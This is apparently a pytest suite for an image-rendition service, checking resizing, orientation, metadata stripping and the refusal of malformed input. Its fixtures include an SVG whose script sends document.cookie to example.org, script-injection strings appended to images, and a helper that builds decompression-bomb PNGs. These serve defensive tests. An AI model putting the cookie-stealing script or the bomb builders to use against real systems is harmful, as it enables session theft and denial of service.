import io
import struct
import zlib
from functools import cache

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image, ImageChops, features
from PIL.PngImagePlugin import PngInfo

from providers.errors import ProviderProblem
from providers.renditions import MOST_PIXELS, WIDTHS, Rendition, Renditions, make_renditions

ORIENTATION, MAKE, GPS = 0x0112, 0x010F, 0x8825
KINDS = ("PNG", "JPEG", "WEBP")
SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="640" height="360">'
    b'<script>fetch("https://example.org/" + document.cookie)</script><rect width="640" height="360"/></svg>'
)
NO_PICTURES = {
    "nothing": b"",
    "svg": SVG,
    "svg_after_space": b"\n\n  " + SVG,
    "html": b"<html><script>alert(1)</script></html>",
    "only_a_signature": b"\x89PNG\r\n\x1a\n",
    "svg_behind_a_signature": b"\x89PNG\r\n\x1a\n" + SVG,
    "pdf": b"%PDF-1.7\n1 0 obj <<>> endobj",
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n",
}


@cache
def noise(width: int, height: int) -> Image.Image:
    return Image.effect_noise((width, height), 90).convert("RGB")


def encoded(picture: Image.Image, kind: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    picture.save(buffer, kind, **options)
    return buffer.getvalue()


@cache
def small(kind: str) -> bytes:
    exif = Image.Exif()
    exif[ORIENTATION] = 6
    return encoded(noise(60, 40), kind, exif=exif)


def opened(rendition: Rendition) -> Image.Image:
    picture = Image.open(io.BytesIO(rendition.data))
    picture.load()
    assert Image.MIME[picture.format or ""] == rendition.media_type
    assert picture.size == (rendition.width, rendition.height)
    return picture


def widths_of(picture: Image.Image, media_type: str) -> list[int]:
    made = make_renditions(encoded(picture, "PNG")).renditions
    return [opened(rendition).width for rendition in made if rendition.media_type == media_type]


def png_of(width: int, height: int) -> bytes:
    """A PNG whose header says so and whose data is a few bytes of zeros."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    zeros = zlib.compress(bytes(100_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zeros) + chunk(b"IEND", b"")


def refusal(data: bytes) -> str:
    with pytest.raises(ProviderProblem) as caught:
        make_renditions(data)
    assert caught.value.kind == "picture_refused"
    assert not caught.value.retryable
    return caught.value.sentence


def made_unless_refused(data: bytes) -> Renditions | None:
    try:
        return make_renditions(data)
    except ProviderProblem as problem:
        kind = problem.kind
    assert kind == "picture_refused"
    return None


def test_widths_are_made_in_webp() -> None:
    made = make_renditions(encoded(noise(1600, 900), "PNG")).renditions
    webp = [rendition for rendition in made if rendition.media_type == "image/webp"]
    assert [(one.width, one.height) for one in webp] == [(320, 180), (640, 360), (1280, 720)]
    for rendition in webp:
        assert opened(rendition).format == "WEBP"


def test_widths_are_made_in_avif_where_pillow_can() -> None:
    assert widths_of(noise(700, 400), "image/avif") == ([320, 640] if features.check("avif") else [])


@pytest.mark.parametrize(
    ("width", "expected"),
    [(1, [1]), (319, [319]), (320, [320]), (639, [320]), (640, [320, 640]), (1279, [320, 640]), (1280, list(WIDTHS))],
)
def test_nothing_is_scaled_up(width: int, expected: list[int]) -> None:
    assert widths_of(noise(width, 30), "image/webp") == expected


@settings(max_examples=25, deadline=None)
@given(width=st.integers(1, 900), height=st.integers(1, 300))
def test_every_rendition_keeps_the_proportions_and_fits_the_original(width: int, height: int) -> None:
    made = make_renditions(encoded(Image.new("RGB", (width, height), "teal"), "PNG"))
    assert (made.original.width, made.original.height) == (width, height)
    assert made.renditions
    for rendition in made.renditions:
        assert rendition.width <= width
        assert rendition.height <= height
        assert abs(rendition.height - height * rendition.width / width) < 1


@pytest.mark.parametrize("kind", KINDS)
def test_original_keeps_its_kind(kind: str) -> None:
    original = make_renditions(encoded(noise(60, 40), kind)).original
    assert opened(original).format == kind


@pytest.mark.parametrize("kind", KINDS)
def test_metadata_is_stripped(kind: str) -> None:
    exif = Image.Exif()
    exif[MAKE] = "SECRETCAMERA"
    exif.get_ifd(GPS)[1] = "N"
    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/">SECRETPLACE</x:xmpmeta>'
    text = PngInfo()
    text.add_text("Comment", "SECRETCOMMENT")
    options: dict[str, dict[str, object]] = {
        "PNG": {"pnginfo": text},
        "JPEG": {"comment": b"SECRETCOMMENT", "xmp": xmp},
        "WEBP": {"xmp": xmp},
    }
    data = encoded(noise(400, 300), kind, exif=exif, icc_profile=b"SECRETPROFILE", **options[kind])
    assert b"SECRETCAMERA" in data
    made = make_renditions(data)
    for rendition in (made.original, *made.renditions):
        assert b"SECRET" not in rendition.data
        picture = opened(rendition)
        assert not picture.getexif()
        assert not {"exif", "xmp", "icc_profile", "comment", "Comment"} & picture.info.keys()


def test_what_hides_behind_a_picture_is_stripped() -> None:
    made = make_renditions(encoded(noise(400, 300), "PNG") + b"<script>alert(1)</script>")
    for rendition in (made.original, *made.renditions):
        assert b"<script>" not in rendition.data


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize(
    ("orientation", "red_corner"),
    [(1, (0, 0)), (2, (1, 0)), (3, (1, 1)), (4, (0, 1)), (5, (0, 0)), (6, (1, 0)), (7, (1, 1)), (8, (0, 1))],
)
def test_orientation_is_applied(kind: str, orientation: int, red_corner: tuple[int, int]) -> None:
    picture = Image.new("RGB", (640, 320), "white")
    picture.paste("red", (0, 0, 160, 80))
    exif = Image.Exif()
    exif[ORIENTATION] = orientation
    made = make_renditions(encoded(picture, kind, exif=exif))
    turned = orientation >= 5
    assert (made.original.width, made.original.height) == ((320, 640) if turned else (640, 320))
    for rendition in (made.original, *made.renditions):
        upright = opened(rendition).convert("RGB")
        reds = {
            (x, y)
            for x in (0, 1)
            for y in (0, 1)
            if _is_red(upright.getpixel((8 + x * (upright.width - 17), 8 + y * (upright.height - 17))))
        }
        assert reds == {red_corner}


def _is_red(colour: object) -> bool:
    assert isinstance(colour, tuple)
    return bool(colour[0] > 200 and colour[1] < 80)


@pytest.mark.parametrize("mode", ["1", "L", "LA", "P", "RGB", "RGBA", "I;16"])
def test_every_kind_of_png_keeps_its_brightness(mode: str) -> None:
    grey = Image.new("I;16", (40, 30), 120 * 257) if mode == "I;16" else Image.new("L", (40, 30), 120).convert(mode)
    before = 120 if mode != "1" else grey.convert("L").resize((1, 1), Image.Resampling.BOX).getpixel((0, 0))
    original = opened(make_renditions(encoded(grey, "PNG")).original).convert("L")
    after = original.resize((1, 1), Image.Resampling.BOX).getpixel((0, 0))
    assert isinstance(before, int)
    assert isinstance(after, int)
    assert abs(after - before) <= 1


def test_cmyk_becomes_rgb() -> None:
    original = make_renditions(encoded(Image.new("CMYK", (40, 30), (0, 255, 255, 0)), "JPEG")).original
    assert opened(original).mode == "RGB"
    assert _is_red(opened(original).getpixel((20, 15)))


def test_transparency_stays() -> None:
    made = make_renditions(encoded(Image.new("RGBA", (400, 300), (255, 0, 0, 0)), "PNG"))
    for rendition in (made.original, *made.renditions):
        assert opened(rendition).convert("RGBA").getchannel("A").getextrema() == (0, 0)


@pytest.mark.parametrize("kind", ["PNG", "WEBP"])
def test_only_the_first_frame_stays(kind: str) -> None:
    first, second = Image.new("RGB", (30, 20), "red"), Image.new("RGB", (30, 20), "blue")
    original = opened(make_renditions(encoded(first, kind, save_all=True, append_images=[second])).original)
    assert getattr(original, "n_frames", 1) == 1
    assert _is_red(original.convert("RGB").getpixel((5, 5)))


@pytest.mark.parametrize("side", [7_072, 12_000, 60_000])
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning")
def test_bomb_is_refused_for_its_pixels(side: int) -> None:
    assert side * side > MOST_PIXELS
    assert "too many pixels" in refusal(png_of(side, side))


def test_bomb_in_a_text_chunk_is_refused() -> None:
    text = PngInfo()
    text.add_text("Comment", "0" * 80_000_000, zip=True)
    data = encoded(noise(60, 40), "PNG", pnginfo=text)
    assert len(data) < 200_000
    refusal(data)


def test_webp_has_a_longest_side() -> None:
    assert "long" in refusal(encoded(Image.new("RGB", (10, 16_384)), "PNG"))
    assert make_renditions(encoded(Image.new("RGB", (10, 16_383)), "PNG")).renditions[0].height == 16_383


def test_a_very_wide_picture_keeps_a_row() -> None:
    made = make_renditions(encoded(Image.new("RGB", (16_384, 2)), "PNG")).renditions
    assert {(one.width, one.height) for one in made} == {(320, 1), (640, 1), (1280, 1)}


@pytest.mark.parametrize("data", NO_PICTURES.values(), ids=NO_PICTURES)
def test_what_is_no_picture_is_refused(data: bytes) -> None:
    refusal(data)


@pytest.mark.parametrize("kind", ["GIF", "BMP", "TIFF", "ICO", "PPM"])
def test_other_kinds_of_picture_are_refused(kind: str) -> None:
    refusal(encoded(noise(60, 40), kind))


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("share", [0.05, 0.3, 0.6, 0.9])
def test_truncated_picture_is_refused(kind: str, share: float) -> None:
    data = encoded(noise(400, 300), kind)
    refusal(data[: int(len(data) * share)])


@settings(max_examples=150, deadline=None)
@given(kind=st.sampled_from(KINDS), data=st.data())
def test_a_cut_picture_is_refused_or_all_there(kind: str, data: st.DataObject) -> None:
    whole = small(kind)
    cut = whole[: data.draw(st.integers(0, len(whole) - 1))]
    if made := made_unless_refused(cut):
        same = ImageChops.difference(opened(made.original), opened(make_renditions(whole).original))
        assert same.getbbox() is None


@settings(max_examples=200, deadline=None)
@given(
    kind=st.sampled_from(KINDS),
    changes=st.lists(st.tuples(st.integers(0, 250), st.integers(0, 255)), min_size=1, max_size=5),
)
@pytest.mark.filterwarnings("ignore::PIL.Image.DecompressionBombWarning", "ignore::UserWarning:PIL")
def test_a_damaged_picture_is_refused_or_cleaned(kind: str, changes: list[tuple[int, int]]) -> None:
    damaged = bytearray(small(kind))
    for place, value in changes:
        damaged[place] = value
    if made := made_unless_refused(bytes(damaged)):
        assert not opened(made.original).getexif()
